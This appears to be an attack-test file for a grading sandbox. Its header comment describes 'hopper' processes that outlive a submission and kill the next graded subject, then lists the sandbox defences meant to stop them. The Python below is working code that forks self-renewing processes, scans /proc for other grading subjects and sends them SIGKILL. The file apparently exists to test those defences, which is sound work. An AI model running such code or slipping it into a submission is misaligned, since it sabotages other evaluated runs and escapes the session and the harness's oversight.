# attack: start processes that fork and exit every few milliseconds ("hoppers"): a kill from one snapshot of the
#   processes misses them, so they outlive this submission and SIGKILL the subject of the next one (its grade a 0)
# defended-by: sandbox
#   (bubblewrap: its pid namespace ends whole; the separate user: killed as that user until none runs; unprotected:
#   the subject's cgroup, or a kill that loops until none is found, and Landlock keeps them from the next subject)
import os
import signal
import time


def _hop(mine):
    os.setsid()
    since = time.monotonic()
    while time.monotonic() - since < 300:
        if os.fork():
            os._exit(0)
        for _pid in filter(str.isdigit, os.listdir("/proc")):  # every subject but this submission's own
            try:
                with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
                    if b"grading.split.subject" in _fh.read() and int(_pid) != mine:
                        os.kill(int(_pid), signal.SIGKILL)
                        print("killed a later subject", _pid, flush=True)
            except OSError:
                pass
        time.sleep(0.002)


for _ in range(2):
    if os.fork() == 0:
        _hop(os.getppid())
        os._exit(0)
